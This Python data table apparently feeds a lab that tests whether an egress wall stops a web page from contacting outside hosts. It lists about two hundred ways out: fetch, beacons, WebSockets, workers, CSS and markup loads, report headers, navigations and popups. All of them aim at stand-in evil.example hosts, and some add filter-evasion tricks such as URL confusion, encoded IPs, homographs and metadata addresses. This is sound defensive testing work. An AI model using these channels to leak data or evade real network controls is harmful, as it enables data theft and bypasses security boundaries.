# SPDX-License-Identifier: GPL-3.0-or-later
"""The ways in which a page can reach a host, as a table.

A way is (name, kind, what). HOST in @what becomes the way's own host, NAME.evil.example, and SELF
the host of the page. Kinds:
  head, body     markup of the page          script    JavaScript: an expression, maybe a promise
  frame          markup of a frame, whose response has the headers given as a fourth member
  navigate       JavaScript that takes the page itself away: run alone
  popup          JavaScript that opens another page: run alone
  unload         JavaScript for when the page is left: run alone
A script may use add(), opened(), work() and go() of pages/leak.js.
"""

LISTED = 'second.lab.example'

MARKUP = [
    ('preconnect', 'head', '<link rel="preconnect" href="https://HOST/">'),
    ('dns-prefetch', 'head', '<link rel="dns-prefetch" href="https://HOST/">'),
    ('prefetch', 'head', '<link rel="prefetch" href="https://HOST/p.html">'),
    ('prerender', 'head', '<link rel="prerender" href="https://HOST/p.html">'),
    ('preload', 'head', '<link rel="preload" as="script" href="https://HOST/p.js">'),
    ('preload-image', 'head', '<link rel="preload" as="image" href="https://HOST/p.png">'),
    ('preload-srcset', 'head',
     '<link rel="preload" as="image" imagesrcset="https://HOST/p.png 1x">'),
    ('modulepreload', 'head', '<link rel="modulepreload" href="https://HOST/p.js">'),
    ('favicon', 'head', '<link rel="icon" href="https://HOST/f.png">'),
    ('touch-icon', 'head', '<link rel="apple-touch-icon" href="https://HOST/f.png">'),
    ('manifest', 'head', '<link rel="manifest" href="https://HOST/m.json">'),
    ('stylesheet', 'head', '<link rel="stylesheet" href="https://HOST/c.css">'),
    ('alternate-style', 'head',
     '<link rel="alternate stylesheet" title="x" href="https://HOST/c.css">'),
    ('css-import', 'head', '<style>@import url(https://HOST/i.css);</style>'),
    ('font-face', 'head', '<style>@font-face { font-family: Leak; '
     'src: url(https://HOST/f.woff2); } #w { font-family: Leak, sans-serif; }</style>'),
    ('css-background', 'head', '<style>body { background: url(https://HOST/b.png); }</style>'),
    ('css-mask', 'head', '<style>#w1 { mask: url(https://HOST/m.svg#a); }</style>'),
    ('css-cursor', 'head', '<style>body { cursor: url(https://HOST/c.png), auto; }</style>'),
    ('css-content', 'head', '<style>#w::after { content: url(https://HOST/c.png); }</style>'),
    ('css-list', 'head', '<style>#l { list-style: url(https://HOST/l.png); }</style>'),
    ('css-border', 'head', '<style>#w2 { border: 9px solid; '
     'border-image: url(https://HOST/b.png) 9; }</style>'),
    ('css-filter', 'head', '<style>#w3 { filter: url(https://HOST/f.svg#a); }</style>'),
    ('css-image-set', 'head',
     '<style>#w4 { background: image-set("https://HOST/s.png" 1x); }</style>'),
    ('css-clip-path', 'head', '<style>#w5 { clip-path: url(https://HOST/c.svg#a); }</style>'),
    ('css-shape', 'head', '<style>#w6 { float: left; '
     'shape-outside: url(https://HOST/s.png); }</style>'),
    ('script', 'head', '<script src="https://HOST/s.js" async></script>'),
    ('module', 'head', '<script type="module">import "https://HOST/m.js"</script>'),
    ('importmap', 'head', '<script type="importmap">{"imports":{"leak":"https://HOST/m.js"}}'
     '</script><script type="module">import "leak"</script>'),
    ('speculation', 'head', '<script type="speculationrules">{"prefetch":[{"source":"list",'
     '"urls":["https://HOST/"]}]}</script>'),
    ('img', 'body', '<img src="https://HOST/i.png" alt="">'),
    ('img-srcset', 'body', '<img srcset="https://HOST/i.png 1x" alt="">'),
    ('img-lazy', 'body', '<img loading="lazy" src="https://HOST/i.png" alt="">'),
    ('picture', 'body', '<picture><source srcset="https://HOST/i.png"><img alt=""></picture>'),
    ('img-redirect', 'body', '<img src="redirect?to=https://HOST/i.png" alt="">'),
    ('img-redirect-listed', 'body',
     '<img src="https://' + LISTED + '/redirect?to=https://HOST/i.png" alt="">'),
    ('img-http', 'body', '<img src="http://HOST/i.png" alt="">'),
    ('input-image', 'body', '<input type="image" src="https://HOST/i.png" alt="">'),
    ('iframe', 'body', '<iframe src="https://HOST/"></iframe>'),
    ('iframe-redirect', 'body', '<iframe src="redirect?to=https://HOST/"></iframe>'),
    ('iframe-srcdoc', 'body', '<iframe srcdoc=\'<img src="https://HOST/i.png">\'></iframe>'),
    ('iframe-data', 'body',
     '<iframe src=\'data:text/html,<img src="https://HOST/i.png">\'></iframe>'),
    ('iframe-sandbox', 'body', '<iframe sandbox="allow-scripts" '
     'srcdoc=\'<script>fetch("https://HOST/x.json")</script>\'></iframe>'),
    ('iframe-javascript', 'body',
     '<iframe src="javascript:\'<img src=https://HOST/i.png>\'"></iframe>'),
    ('frame-refresh', 'body', '<iframe srcdoc=\'<meta http-equiv=refresh '
     'content="0;url=https://HOST/">\'></iframe>'),
    ('frame-location', 'body',
     '<iframe srcdoc=\'<script>location.href="https://HOST/"</script>\'></iframe>'),
    ('object', 'body', '<object data="https://HOST/o.html"></object>'),
    ('embed', 'body', '<embed src="https://HOST/e.html">'),
    ('embed-pdf', 'body', '<embed type="application/pdf" src="https://HOST/e.pdf">'),
    ('video', 'body', '<video src="https://HOST/v.mp4" preload="auto"></video>'),
    ('video-source', 'body', '<video preload="auto"><source src="https://HOST/v.mp4"></video>'),
    ('poster', 'body', '<video poster="https://HOST/p.png"></video>'),
    ('audio', 'body', '<audio src="https://HOST/a.mp3" preload="auto"></audio>'),
    ('track', 'body', '<video src="data:video/mp4,"><track default src="https://HOST/t.vtt">'
     '</video>'),
    ('svg-image', 'body', '<svg><image href="https://HOST/i.png" width="5" height="5"/></svg>'),
    ('svg-use', 'body', '<svg><use href="https://HOST/u.svg#a"/></svg>'),
    ('svg-feimage', 'body', '<svg><filter id="fe"><feImage href="https://HOST/i.png"/></filter>'
     '<rect width="9" height="9" filter="url(#fe)"/></svg>'),
    ('svg-xlink', 'body',
     '<svg><image xlink:href="https://HOST/i.png" width="5" height="5"/></svg>'),
    ('mathml', 'body', '<math><mglyph src="https://HOST/i.png"></mglyph></math>'),
    ('body-background', 'body', '<table background="https://HOST/b.png"><tr><td>x</table>'),
    ('form-post-frame', 'body', '<form class="send" method="post" target="ff1" '
     'action="https://HOST/post"><input name="a" value="b"></form><iframe name="ff1"></iframe>'),
    ('form-get-frame', 'body', '<form class="send" target="ff2" action="https://HOST/get">'
     '<input name="a" value="b"></form><iframe name="ff2"></iframe>'),
    ('a-ping', 'body', '<a class="click" href="#leak" ping="https://HOST/ping">x</a>'),
    ('frame-csp-report', 'frame', '<script src="refused.js"></script><img src="refused.png">', {
        'Content-Security-Policy': "default-src 'none'; report-uri https://HOST/report"}),
    ('frame-csp-report-only', 'frame', '<img src="refused.png">', {
        'Content-Security-Policy-Report-Only':
        "default-src 'none'; report-uri https://HOST/report"}),
    ('frame-report-to', 'frame', '<img src="refused.png">', {
        'Reporting-Endpoints': 'leak="https://HOST/report"',
        'Content-Security-Policy-Report-Only': "default-src 'none'; report-to leak"}),
    ('frame-nel', 'frame', '<img src="broken.png">', {
        'Report-To': '{"group":"leak","max_age":60,"endpoints":[{"url":"https://HOST/nel"}]}',
        'NEL': '{"report_to":"leak","max_age":60,"success_fraction":1.0}'}),
    ('frame-link-header', 'frame', 'x', {
        'Link': '<https://HOST/l.css>; rel=preload; as=style, <https://HOST>; rel=preconnect'}),
    ('frame-refresh-header', 'frame', 'x', {'Refresh': '0; url=https://HOST/'}),
    ('frame-xslt', 'frame', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
     'href="https://HOST/x.xml"?><a/>', {'Content-Type': 'application/xml'}),
    ('frame-dtd', 'frame', '<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://HOST/d.dtd"><a/>',
     {'Content-Type': 'application/xml'}),
    ('frame-source-map', 'frame', '<script>1\n//# sourceMappingURL=https://HOST/m.json\n</script>',
     {}),
    ('frame-alt-svc', 'frame', '<img src="broken.png">', {'Alt-Svc': 'h2="HOST:443"; ma=60'}),
    ('frame-base', 'frame', '<base href="https://HOST/"><img src="i.png"><script src="s.js">'
     '</script>', {}),
    ('frame-top', 'frame', '<base target="_self"><a id="a" href="https://HOST/">x</a>'
     '<script>a.click()</script>', {}),
]

SCRIPTS = [
    ('fetch', 'script', 'fetch("https://HOST/f.json")'),
    ('fetch-no-cors', 'script',
     'fetch("https://HOST/f.json", {mode: "no-cors", method: "POST", body: "x"})'),
    ('fetch-keepalive', 'script',
     'fetch("https://HOST/f.json", {mode: "no-cors", method: "POST", body: "x", keepalive: true})'),
    ('fetch-preflight', 'script', 'fetch("https://HOST/f.json", {headers: {"x-leak": "x"}})'),
    ('fetch-redirect', 'script', 'fetch("redirect?to=https://HOST/f.json")'),
    ('fetch-redirect-307', 'script', 'fetch("redirect?status=307&to=https://HOST/f.json", '
     '{method: "POST", mode: "no-cors", body: "x"})'),
    ('fetch-redirect-listed', 'script',
     'fetch("https://' + LISTED + '/redirect?to=https://HOST/f.json")'),
    ('fetch-http', 'script', 'fetch("http://HOST/f.json")'),
    ('xhr', 'script', 'loaded(request("GET", "https://HOST/x.json", true))'),
    ('xhr-post', 'script', 'loaded(request("POST", "https://HOST/x.json", true))'),
    ('xhr-sync', 'script', 'request("GET", "https://HOST/x.json", false).responseText'),
    ('beacon', 'script', 'navigator.sendBeacon("https://HOST/b", "x")'),
    ('wss', 'script', 'opened(new WebSocket("wss://HOST/ws"))'),
    ('ws', 'script', 'opened(new WebSocket("ws://HOST/ws"))'),
    ('event-source', 'script', 'opened(new EventSource("https://HOST/events"))'),
    ('worker-fetch', 'script', 'work(`fetch("https://HOST/x.json").then(ok, no)`)'),
    ('worker-xhr', 'script', 'work(`let x = new XMLHttpRequest(); '
     'x.open("GET", "https://HOST/x.json", false); x.send(); ok()`)'),
    ('worker-import', 'script', 'work(`importScripts("https://HOST/i.js"); ok()`)'),
    ('worker-wss', 'script',
     'work(`let w = new WebSocket("wss://HOST/ws"); w.onopen = ok; w.onerror = no`)'),
    ('worker-event-source', 'script', 'work(`let e = new EventSource("https://HOST/events"); '
     'e.onopen = ok; e.onerror = no`)'),
    ('worker-nested', 'script', 'work(`new Worker(URL.createObjectURL(new Blob(['
     '"fetch(\'https://HOST/x.json\')"]))); setTimeout(ok, 500)`)'),
    ('worker-module', 'script', 'work(`import("https://HOST/i.js").then(ok, no)`)'),
    ('worker-remote', 'script', 'failed(new Worker("https://HOST/w.js"))'),
    ('shared-worker', 'script',
     'failed(new SharedWorker("shared-worker.js?host=HOST"))'),
    ('service-worker', 'script', 'serve("HOST", "fetch")'),
    ('service-worker-import', 'script', 'serve("HOST", "import")'),
    ('service-worker-wss', 'script', 'serve("HOST", "wss")'),
    ('service-worker-cache', 'script', 'serve("HOST", "cache")'),
    ('dynamic-import', 'script', 'import("https://HOST/d.js")'),
    ('new-image', 'script', 'add("img", {src: "https://HOST/i.png"})'),
    ('image-decode', 'script', '(() => { const i = new Image(); i.src = "https://HOST/i.png"; '
     'return i.decode(); })()'),
    ('script-element', 'script', 'add("script", {src: "https://HOST/s.js"})'),
    ('link-element', 'script', 'add("link", {rel: "stylesheet", href: "https://HOST/c.css"})'),
    ('iframe-element', 'script', 'add("iframe", {src: "https://HOST/"})'),
    ('new-audio', 'script', 'failed(new Audio("https://HOST/a.mp3"))'),
    ('font-face-api', 'script', 'new FontFace("Y", "url(https://HOST/f.woff2)").load()'),
    ('audio-worklet', 'script', 'new AudioContext().audioWorklet.addModule("https://HOST/w.js")'),
    ('paint-worklet', 'script', 'CSS.paintWorklet.addModule("https://HOST/w.js")'),
    ('webrtc-stun', 'script', '(async () => { const p = new RTCPeerConnection({iceServers: '
     '[{urls: "stun:HOST:3478"}]}); p.createDataChannel("x"); '
     'await p.setLocalDescription(await p.createOffer()); })()'),
    ('webtransport', 'script', 'new WebTransport("https://HOST/").ready'),
    ('cache-add', 'script', 'caches.open("x").then(c => c.add("https://HOST/c.json"))'),
    ('wasm-streaming', 'script', 'WebAssembly.instantiateStreaming(fetch("https://HOST/w.wasm"))'),
    ('css-rule', 'script', '(() => { const s = new CSSStyleSheet(); '
     's.replaceSync("#w { background: url(https://HOST/r.png) }"); '
     'document.adoptedStyleSheets = [s]; })()'),
    ('inner-html', 'script', 'document.getElementById("w").insertAdjacentHTML("beforeend", '
     '"<img src=https://HOST/i.png>")'),
    ('template-parse', 'script', 'void new DOMParser().parseFromString('
     '"<img src=https://HOST/i.png>", "text/html")'),
    ('range-fragment', 'script', 'document.body.append(document.createRange()'
     '.createContextualFragment("<script src=https://HOST/s.js><\\/script>"))'),
    ('blob-frame', 'script', 'add("iframe", {src: URL.createObjectURL(new Blob('
     '["<img src=https://HOST/i.png>"], {type: "text/html"}))})'),
    ('video-media-source', 'script', 'failed(Object.assign(document.createElement("video"), '
     '{src: "https://HOST/m.m3u8"}))'),
    ('media-session', 'script', 'navigator.mediaSession.metadata = new MediaMetadata('
     '{title: "x", artwork: [{src: "https://HOST/a.png"}]})'),
    ('notification', 'script', 'new Notification("x", {icon: "https://HOST/n.png"})'),
    ('share', 'script', 'navigator.share({url: "https://HOST/"})'),
    ('payment', 'script', 'new PaymentRequest([{supportedMethods: "https://HOST/pay"}], '
     '{total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment()'),
    ('related-origin', 'script', 'navigator.credentials.get({publicKey: {challenge: '
     'new Uint8Array(8), rpId: "HOST"}})'),
    ('fetch-port-8443', 'script', 'fetch("https://SELF:8443/f.json", {mode: "no-cors"})'),
    ('wss-port-444', 'script', 'opened(new WebSocket("wss://SELF:444/ws"))'),
    ('img-userinfo', 'script', 'add("img", {src: "https://SELF@HOST/i.png"})'),
    ('img-backslash', 'script', 'add("img", {src: "https://HOST\\\\@SELF/i.png"})'),
    ('img-suffix', 'script', 'add("img", {src: "https://SELF.HOST/i.png"})'),
    ('img-dotted', 'script', 'add("img", {src: "https://SELF./i.png"})'),
    ('ip-v4', 'script', 'fetch("https://203.0.113.10/f.json", {mode: "no-cors"})'),
    ('ip-decimal', 'script', 'fetch("https://3405803787/f.json", {mode: "no-cors"})'),
    ('ip-hex', 'script', 'fetch("https://0xcb00710c/f.json", {mode: "no-cors"})'),
    ('ip-v6', 'script', 'fetch("https://[2001:db8::13]/f.json", {mode: "no-cors"})'),
    ('ip-mapped', 'script', 'fetch("https://[::ffff:203.0.113.14]/f.json", {mode: "no-cors"})'),
    ('ip-metadata', 'script', 'add("img", {src: "http://169.254.169.254/i.png"})'),
    ('ip-private', 'script', 'fetch("https://192.168.1.1/f.json", {mode: "no-cors"})'),
    ('ip-loopback', 'script', 'fetch("http://127.0.0.1:LABPORT/f.json", {mode: "no-cors"})'),
    ('localhost', 'script', 'fetch("http://localhost:LABPORT/f.json", {mode: "no-cors"})'),
    ('onion', 'script', 'fetch("https://fuitefuitefuite.onion/f.json", {mode: "no-cors"})'),
    ('single-label', 'script', 'fetch("https://imprimante/f.json", {mode: "no-cors"})'),
    ('mdns', 'script', 'fetch("https://imprimante.local/f.json", {mode: "no-cors"})'),
    ('homograph', 'script', 'fetch("https://www.c\\u0430f.fr/f.json", {mode: "no-cors"})'),
]

LEAVING = [
    ('location-href', 'navigate', 'location.href = "https://HOST/"'),
    ('location-assign', 'navigate', 'location.assign("https://HOST/")'),
    ('location-replace', 'navigate', 'location.replace("https://HOST/")'),
    ('location-host', 'navigate', 'location.host = "HOST"'),
    ('navigation-api', 'navigate', 'navigation.navigate("https://HOST/")'),
    ('meta-refresh', 'navigate', 'add("meta", {"http-equiv": "refresh", '
     'content: "0;url=https://HOST/"})'),
    ('refresh-header', 'navigate', 'location.href = "frame?way=frame-refresh-header&host=HOST"'),
    ('link-click', 'navigate', 'add("a", {href: "https://HOST/"}, "click")'),
    ('link-download', 'navigate',
     'add("a", {href: "https://HOST/file.txt", download: ""}, "click")'),
    ('link-svg', 'navigate', '(() => { document.getElementById("w").innerHTML = "<svg><a id=sa '
     'href=https://HOST/><text>x</text></a></svg>"; '
     'sa.dispatchEvent(new MouseEvent("click", {bubbles: true})); })()'),
    ('link-area', 'navigate', 'add("area", {href: "https://HOST/"}, "click")'),
    ('form-get', 'navigate', 'add("form", {action: "https://HOST/"}, "submit")'),
    ('form-post', 'navigate', 'add("form", {action: "https://HOST/", method: "post"}, "submit")'),
    ('form-redirect', 'navigate', 'add("form", {method: "post", '
     'action: "redirect?status=307&to=https://HOST/"}, "submit")'),
    ('redirect', 'navigate', 'location.href = "redirect?to=https://HOST/"'),
    ('redirect-301', 'navigate', 'location.href = "redirect?status=301&to=https://HOST/"'),
    ('redirect-twice', 'navigate', 'location.href = "redirect?to=" + '
     'encodeURIComponent("redirect?to=https://HOST/")'),
    ('redirect-listed', 'navigate',
     'location.href = "https://' + LISTED + '/redirect?to=https://HOST/"'),
    ('javascript-url', 'navigate',
     'location.href = "javascript:void(location.href=\'https://HOST/\')"'),
    ('data-url', 'navigate', 'location.href = "data:text/html,<img src=https://HOST/i.png>"'),
    ('blob-url', 'navigate', 'location.href = URL.createObjectURL(new Blob('
     '["<img src=https://HOST/i.png>"], {type: "text/html"}))'),
    ('frame-navigates-top', 'navigate',
     'add("iframe", {srcdoc: "<script>top.location=\'https://HOST/\'<\\/script>"})'),
    ('document-write', 'navigate',
     'document.write("<script>location=\'https://HOST/\'<\\/script>")'),
    ('userinfo', 'navigate', 'location.href = "https://SELF@HOST/"'),
    ('backslash', 'navigate', 'location.href = "https://HOST\\\\@SELF/"'),
    ('suffix', 'navigate', 'location.href = "https://SELF.HOST/"'),
    ('dotted', 'navigate', 'location.href = "https://SELF./"'),
    ('port-8444', 'navigate', 'location.href = "https://SELF:8444/"'),
    ('downgrade', 'navigate', 'location.href = "http://SELF/"'),
    ('downgrade-redirect', 'navigate', 'location.href = "redirect?to=http://SELF:8080/"'),
    ('wss-scheme', 'navigate', 'location.href = "wss://HOST/"'),
    ('ftp-scheme', 'navigate', 'location.href = "ftp://HOST/"'),
    ('navigate-ip', 'navigate', 'location.href = "https://203.0.113.20/"'),
    ('navigate-ip-v6', 'navigate', 'location.href = "https://[2001:db8::20]/"'),
    ('navigate-loopback', 'navigate', 'location.href = "http://127.0.0.1:LABPORT/"'),
    ('navigate-onion', 'navigate', 'location.href = "https://fuitefuite.onion/"'),
    ('navigate-homograph', 'navigate', 'location.href = "https://connect.c\\u0430f.fr/"'),
    ('window-open', 'popup', 'window.open("https://HOST/")'),
    ('window-open-named', 'popup', 'window.open("https://HOST/", "n", "width=200,height=200")'),
    ('window-open-noopener', 'popup', 'window.open("https://HOST/", "_blank", "noopener")'),
    ('window-open-late', 'popup', 'window.open("about:blank").location = "https://HOST/"'),
    ('window-open-write', 'popup',
     'window.open().document.write("<img src=https://HOST/i.png>")'),
    ('window-open-redirect', 'popup', 'window.open("redirect?to=https://HOST/")'),
    ('window-open-self', 'popup', 'window.open("https://HOST/", "_self")'),
    ('window-open-blob', 'popup', 'window.open(URL.createObjectURL(new Blob('
     '["<img src=https://HOST/i.png>"], {type: "text/html"})))'),
    ('link-blank', 'popup', 'add("a", {href: "https://HOST/", target: "_blank"}, "click")'),
    ('form-blank', 'popup', 'add("form", {action: "https://HOST/", target: "_blank"}, "submit")'),
    ('opener-location', 'popup', 'window.open("opener?host=HOST")'),
    ('unload-beacon', 'unload', 'navigator.sendBeacon("https://HOST/b", "x")'),
    ('unload-keepalive', 'unload', 'fetch("https://HOST/b", {mode: "no-cors", keepalive: true})'),
    ('unload-xhr', 'unload', 'request("GET", "https://HOST/x.json", false)'),
    ('unload-image', 'unload', 'new Image().src = "https://HOST/i.png"'),
]

# What a listed page must still be able to do, so that a wall is not a broken browser.
ALLOWED = [
    ('listed-fetch', 'script', 'fetch("https://' + LISTED + '/f.json").then(r => r.json())'),
    ('listed-image', 'script', 'add("img", {src: "https://' + LISTED + '/i.png"})'),
    ('listed-wss', 'script', 'opened(new WebSocket("wss://' + LISTED + '/ws"))'),
    ('listed-frame', 'script', 'add("iframe", {src: "https://' + LISTED + '/"})'),
    ('listed-redirect', 'script',
     'fetch("redirect?to=https://' + LISTED + '/f.json").then(r => r.json())'),
    ('data-image', 'script', 'add("img", {src: "data:image/svg+xml,<svg xmlns='
     '\'http://www.w3.org/2000/svg\' width=\'1\' height=\'1\'/>"})'),
    ('blob-fetch', 'script', 'fetch(URL.createObjectURL(new Blob(["x"])))'),
    ('blob-worker', 'script', 'work("ok()")'),
]

# Ways whose place is not NAME.evil.example: host, port.
PLACES = {
    'ws': (None, 80), 'img-http': (None, 80), 'fetch-http': (None, 80), 'webrtc-stun': (None, 3478),
    'ftp-scheme': (None, 21), 'fetch-port-8443': ('SELF', 8443), 'wss-port-444': ('SELF', 444),
    'port-8444': ('SELF', 8444), 'downgrade': ('SELF', 80), 'downgrade-redirect': ('SELF', 8080),
    'img-suffix': ('SELF.img-suffix.evil.example', 443),
    'suffix': ('SELF.suffix.evil.example', 443),
    'img-dotted': ('SELF.', 443), 'dotted': ('SELF.', 443),
    'ip-v4': ('203.0.113.10', 443), 'ip-decimal': ('203.0.113.11', 443),
    'ip-hex': ('203.0.113.12', 443), 'ip-v6': ('[2001:db8::13]', 443),
    'ip-mapped': ('[::ffff:cb00:710e]', 443), 'ip-metadata': ('169.254.169.254', 80),
    'ip-private': ('192.168.1.1', 443), 'ip-loopback': ('127.0.0.1', 'LABPORT'),
    'localhost': ('localhost', 'LABPORT'), 'onion': ('fuitefuitefuite.onion', 443),
    'single-label': ('imprimante', 443), 'mdns': ('imprimante.local', 443),
    'homograph': ('www.xn--cf-7kc.fr', 443), 'navigate-ip': ('203.0.113.20', 443),
    'navigate-ip-v6': ('[2001:db8::20]', 443), 'navigate-loopback': ('127.0.0.1', 'LABPORT'),
    'navigate-onion': ('fuitefuite.onion', 443),
    'navigate-homograph': ('connect.xn--cf-7kc.fr', 443),
    'listed-fetch': (LISTED, 443), 'listed-image': (LISTED, 443), 'listed-wss': (LISTED, 443),
    'listed-frame': (LISTED, 443), 'listed-redirect': (LISTED, 443), 'data-image': ('', 0),
    'blob-fetch': ('', 0), 'blob-worker': ('', 0),
}
